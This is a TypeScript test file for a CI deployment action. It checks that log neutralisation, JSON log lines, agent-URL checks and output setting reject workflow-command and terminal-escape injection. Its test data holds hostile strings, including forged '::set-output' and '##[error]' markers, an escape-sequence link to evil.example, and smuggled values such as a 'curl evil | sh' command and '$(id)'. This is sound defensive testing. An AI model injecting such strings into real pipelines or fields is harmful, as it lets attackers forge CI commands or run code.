import assert from "node:assert/strict";
import { test } from "node:test";
import { checkAgentUrl } from "../../action/client/agent-url.js";
import { setOutputs } from "../../action/ci/outputs.js";
import { jsonLine, neutralize } from "../../shared/neutralize.js";

// Every form the GitHub runner, GitLab's log parser or a terminal acts on.
const HOSTILE = [
  "::set-output name=release::1",
  "  \u00a0::add-mask::secret",
  "text ##[error]hidden command",
  "\u001b[0Ksection_start:1700000000:evil\r\u001b[0Kfake section",
  "section_end:1700000000:greenlight_pull_1",
  "\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
  "\u009b2J8-bit CSI clears the screen",
  "\u009d0;title\u009c8-bit OSC",
  "\u0085NEL\u2028LS\u2029PS",
  "bidi \u202eevil\u202c \u2066isolate\u2069 \u200fmark",
  "bell\u0007 backspace\u0008 del\u007f nul\u0000",
];

test("neutralised text has no control, escape, bidi or line-break character left", () => {
  for (const text of HOSTILE) {
    const out = neutralize(text);
    assert.doesNotMatch(
      out,
      /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/,
    );
  }
});

test("no workflow command or section marker can form from neutralised text, at a line start or anywhere", () => {
  for (const text of HOSTILE) {
    const out = neutralize(text);
    assert.doesNotMatch(out.trimStart(), /^::/, out);
    assert.doesNotMatch(out, /##\[/, out);
    assert.doesNotMatch(out, /section_(start|end):/, out);
  }
  assert.equal(neutralize("::error::x"), ": :error::x");
  assert.equal(neutralize("a ##[group]b"), "a # #[group]b");
  assert.equal(neutralize(neutralize("::error::x ##[y]")), neutralize("::error::x ##[y]"), "idempotent");
});

test("neutralising keeps ordinary text, colours dropped", () => {
  assert.equal(neutralize("GET /healthz 200 in 3ms — ok ✓"), "GET /healthz 200 in 3ms — ok ✓");
  assert.equal(neutralize("\u001b[1;32mgreen\u001b[0m\ttab"), "green tab");
});

test("JSON lines escape what a runner or terminal would act on and decode back to the same text", () => {
  for (const text of HOSTILE) {
    const line = jsonLine({ message: text });
    assert.doesNotMatch(
      line,
      /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200e\u200f]/,
    );
    assert.doesNotMatch(line, /##\[/);
    assert.deepEqual(JSON.parse(line), { message: text });
  }
});

test("the expected agent id is the one named, else the URL's host name; never the server's", () => {
  assert.equal(checkAgentUrl("web-1=wss://10.0.0.5:7350", false).agentId, "web-1");
  const derived = checkAgentUrl("wss://web-1.example.com:7350", false);
  assert.equal(derived.agentId, "web-1.example.com");
  assert.equal(derived.idFrom, "url");
  assert.equal(checkAgentUrl("ws://127.0.0.1:7350", false, "test-agent").agentId, "test-agent");
  assert.throws(() => checkAgentUrl("bad id!=wss://x.example:7350", false), /not an agent id/);
  assert.throws(() => checkAgentUrl("web-1=ws://web-1.example.com:7350", false), /refusing plain ws/);
});

test("outputs are set only when every value has its shape", () => {
  const set: Record<string, string> = {};
  setOutputs(
    {
      result: "succeeded",
      release: "7",
      digest: `sha256:${"a".repeat(64)}`,
      "deploy-id": "d20261130-abc123",
      hosts: [{ host: "web-1", status: "succeeded", release: "7" }],
    },
    (name, value) => (set[name] = value),
  );
  assert.equal(set.release, "7");
  assert.equal(set.hosts, '[{"host":"web-1","status":"succeeded","release":"7"}]');
  const none: string[] = [];
  for (const bad of ['7"; curl evil | sh; "', "7\n::set-output name=x::y", "$(id)"]) {
    assert.throws(
      () => setOutputs({ result: "succeeded", release: bad }, (name) => none.push(name)),
      /PROTOCOL_ERROR|refusing to set output release/,
    );
  }
  assert.throws(() =>
    setOutputs({ result: "succeeded", hosts: [{ host: "a b", status: "succeeded" }] }, (name) =>
      none.push(name),
    ),
  );
  assert.deepEqual(none, [], "nothing is set when anything is refused");
});
